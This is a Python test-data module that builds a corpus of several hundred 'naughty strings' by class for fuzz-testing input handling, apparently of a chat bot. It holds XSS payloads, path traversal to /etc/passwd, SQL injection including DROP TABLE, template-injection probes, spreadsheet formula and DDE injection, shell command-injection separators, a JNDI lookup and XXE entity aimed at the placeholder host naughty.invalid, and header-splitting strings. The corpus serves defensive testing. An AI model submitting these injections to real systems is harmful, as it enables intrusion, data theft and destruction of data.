"""More than 515 strings that have broken programs before, of our own making, by class.

Nothing is copied from a list: each class is a few shapes times a few contents. Whatever would run
as script shows a dialog (``alert``); whatever would be taken for markup has the class ``naughty``.
"""

from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

ALERTS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "confirm(1)", "prompt(1)")
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "iframe src=x",
)
ENDINGS = ('"', "'", ">", '">', "'>", "</", "-->", "]]>", "</title>", "</textarea>", "</script>")


def _script() -> Iterator[str]:
    for ending, alert in product(ENDINGS, ALERTS):
        yield f"{ending}<script class=naughty>{alert}</script>"
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} class=naughty {handler}=alert(1)>"
        yield f"<{tag.upper()}/class=naughty/{handler.upper()}=alert(1)//"
    for handler, quoted in product(HANDLERS, ('"', "'", "`")):
        yield f"x{quoted} autofocus {handler}={quoted}alert(1){quoted} class={quoted}naughty"
    yield from (
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\x0c>alert(1)</script>",
        "<script>alert(1)",
        "<<script>alert(1)//<</script>",
        "<svg><script>alert&#40;1&#41;</script>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<style class=naughty>@import'data:,*{x:expression(alert(1))}';</style>",
        "<link rel=stylesheet href=//naughty.invalid/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<base href=//naughty.invalid/>",
        "<object data=data:text/html,<script>alert(1)</script>>",
        "<embed src=//naughty.invalid/x.svg>",
        "<form action=//naughty.invalid><button class=naughty>x",
        "<template><img class=naughty src=x onerror=alert(1)></template>",
        "<marquee onstart=alert(1) class=naughty>x",
        "<img src=//naughty.invalid/seen.png class=naughty>",
        "<a href=javascript:alert(1) class=naughty>x</a>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<mxss>&lt;img src=x onerror=alert(1)&gt;",
    )


def _addresses() -> Iterator[str]:
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "vbscript:"):
        yield from (f"{scheme}{alert}" for alert in ALERTS)
    for page in ("<script>alert(1)</script>", "<svg onload=alert(1)>"):
        yield f"data:text/html,{page}"
        yield f"data:text/html;charset=utf-8,{quote(page)}"
    yield from (
        "//naughty.invalid/",
        "https:naughty.invalid",
        "/\\naughty.invalid",
        "file:///etc/x",
    )
    yield from ("../../../../etc/passwd", "..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2fx", "/dev/null")
    yield from ("....//....//x", "x%00.png", "C:\\con\\con", "\\\\naughty.invalid\\c$", "~root")


def _templates() -> Iterator[str]:
    for left, right in (
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("{%", "%}"),
        ("{", "}"),
    ):
        for inside in (
            "7*7",
            "config",
            "''.__class__.__mro__",
            "self",
            "request.app",
            "0[0]",
            "x!r",
        ):
            yield f"{left} {inside} {right}"
    yield from (
        "%s%s%s%n",
        "%(name)s",
        "%d%d%d",
        "%x" * 8,
        "{0}{1}",
        "{name.__init__}",
        "$1 \\1",
        "%%",
    )
    yield from (
        "{code}",
        "{text}",
        "{name}",
        "{reason}",
        "{!s}",
        "{",
        "}",
        "{{",
        "}}",
        "{:>99999999}",
    )


def _queries() -> Iterator[str]:
    for quoted, rest in product(
        ("'", '"', "`", "\\'", "')", "'))"),
        ("", " OR 1=1--", "; DROP TABLE tickets;--", " UNION SELECT 1,2,3--", "||(SELECT 1)||'"),
    ):
        yield f"1{quoted}{rest}"
    yield from ("%", "_", "\\", "%_%", "[a-z]", "*", "?", "NEAR(a b)", '"a" AND', "a*b", "^a", "-a")
    yield from (
        "'; SELECT pg_sleep(9);--",
        "$gt",
        '{"$ne": null}',
        "*)(uid=*))(|(uid=*",
        "' or ''='",
    )


def _formulas() -> Iterator[str]:
    for sign in "=+-@\t":
        for formula in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//naughty.invalid","x")', "SUM(1)"):
            yield f"{sign}{formula}"
    yield from ("=1+1\n=2+2", '"=1+1"', "'=1+1", ";=1+1", "x,=1+1", "DDE(1;2;3)", "=WEBSERVICE(1)")


def _commands() -> Iterator[str]:
    for command in ("touch x", "cat /etc/x", "sleep 9"):
        yield from (
            f"; {command}",
            f"| {command}",
            f"`{command}`",
            f"$({command})",
            f"&& {command}",
        )
    yield from (
        "${jndi:ldap://naughty.invalid/x}",
        "() { :; }; x",
        "eval('1')",
        "--help",
        "-rf",
        "!!",
    )
    yield from (
        "__import__('os')",
        "System.exit(1)",
        "<?php x(); ?>",
        "<!--#exec cmd=x-->",
        "$HOME",
    )
    yield "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/x'>]><x>&e;</x>"
    yield "<?xml version='1.0'?><!ENTITY a '&a;&a;'>"
    yield "<![CDATA[<script>alert(1)</script>]]>"


def _lines() -> Iterator[str]:
    for end in ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b"):
        for header in (
            "Set-Cookie: a=b",
            "Location: //naughty.invalid",
            "event: message",
            "data: x",
        ):
            yield f"x{end}{header}"
    yield from (
        "\n" * 50,
        "\t" * 50,
        " " * 50,
        "\u3000" * 30,
        "x\x00y",
        "\x1b[31mx\x1b[0m",
        "\x07\x08",
    )
    yield from (
        "\x7f",
        "\x01\x02\x03",
        "\xad",
        "\ufeffx",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
    )


def _writing() -> Iterator[str]:
    yield from (
        f"{mark}灯坏了{mark}" for mark in map(chr, (*range(0x200B, 0x2010), *range(0x202A, 0x202F)))
    )
    yield from (
        f"x{mark}y" for mark in map(chr, (*range(0x2066, 0x206A), 0x2060, 0x180E, 0x115F, 0x3164))
    )
    yield from (
        "👩‍👩‍👧‍👦",
        "🧓🏽",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "❤️",
        "1️⃣",
        "🇨🇳🇨",
        "👀" * 40,
        "ﷺ",
        "﷽",
        "𠜎𠜱𠝹",
        "㍿",
        "①②③",
    )
    yield from (
        "e\u0301" * 20,
        "Z\u0351\u036b\u0343" * 20,
        "\u0300" * 30,
        "ǅǈ",
        "ﬃ",
        "ß",
        "İı",
        "K",
        "Ω",
    )
    yield from (
        "مرحبا",
        "שלום",
        "नमस्ते",
        "ภาษาไทย",
        "Привет",
        "한국어",
        "日本語",
        "ᚠᛇᚻ",
        "𝓗𝓮𝓵𝓵𝓸",
        "ʇxǝʇ",
    )
    yield from (
        "ÅÍÎÏ",
        "œ∑´®†",
        "¡™£¢∞",
        "⁰⁴⁵₀₁₂",
        "ด้้้้้็็็็็้้้้้",
        "﻿灯",
        "田中さん",
        "和製漢語",
        "社會科學院",
        "울란바토르",
    )


def _words() -> Iterator[str]:
    yield from (
        "undefined",
        "null",
        "NULL",
        "None",
        "nil",
        "true",
        "false",
        "NaN",
        "Infinity",
        "[]",
        "{}",
    )
    yield from (
        "constructor",
        "__proto__",
        "prototype",
        "hasOwnProperty",
        "toString",
        "arguments",
        "self",
    )
    yield from (
        "[object Object]",
        "(null)",
        "then",
        "length",
        "default",
        "con",
        "nul",
        "aux",
        "lpt1",
        "on",
    )
    yield from (
        "0",
        "-0",
        "00",
        "1/0",
        "0/0",
        "1e400",
        "-1e400",
        "0x1F",
        "0b1",
        "1_000",
        "1,000",
        "９９９",
    )
    yield from (
        "9" * 400,
        "-" + "9" * 40,
        "0." + "0" * 60 + "1",
        "2147483648",
        "-2147483649",
        "9007199254740993",
    )
    yield from (
        "1900-00-00",
        "2026-02-30",
        "99999-01-01",
        "24:60",
        "1/1/1",
        "-1",
        "+1",
        "½",
        "Ⅳ",
        "〇",
    )
    yield from (
        "&lt;b&gt;",
        "&#60;b class=naughty&#62;",
        "&amp;amp;",
        "&nbsp;",
        "&#x0;",
        "&notanentity;",
        "&",
    )
    yield from (
        "<",
        ">",
        "<>",
        "</>",
        "<!--",
        "-->",
        "<b class=naughty>粗",
        "</div></div></main>",
        "<table>",
    )
    yield from (
        "<i class=naughty>",
        "</b></i>",
        "<u>x</u>",
        "**x**",
        "[x](javascript:alert(1))",
        "# x",
        "`x`",
    )
    yield from (
        "/start x",
        "/desk",
        "/mydata",
        "/help@bot",
        "@邻里小助手",
        "tg://x",
        "q_aaaa",
        "i_x",
        "b_<b>",
    )
    yield from ("灯" * 300, "W" * 300, "我" + "很" * 200 + "急", "(" * 200, "[" * 200, "a b " * 100)


CLASSES = {
    "script": _script,
    "addresses": _addresses,
    "templates": _templates,
    "queries": _queries,
    "formulas": _formulas,
    "commands": _commands,
    "lines": _lines,
    "writing": _writing,
    "words": _words,
}
NAUGHTY: tuple[str, ...] = tuple(dict.fromkeys(one for make in CLASSES.values() for one in make()))


def packed(most: int, strings: tuple[str, ...] = NAUGHTY) -> list[str]:
    """All of them, several to a value of at most so many characters."""
    packs, pack = [], ""
    for one in strings:
        if pack and len(pack) + 1 + len(one) > most:
            packs.append(pack)
            pack = ""
        pack = f"{pack} {one}" if pack else one
    return [*packs, pack]
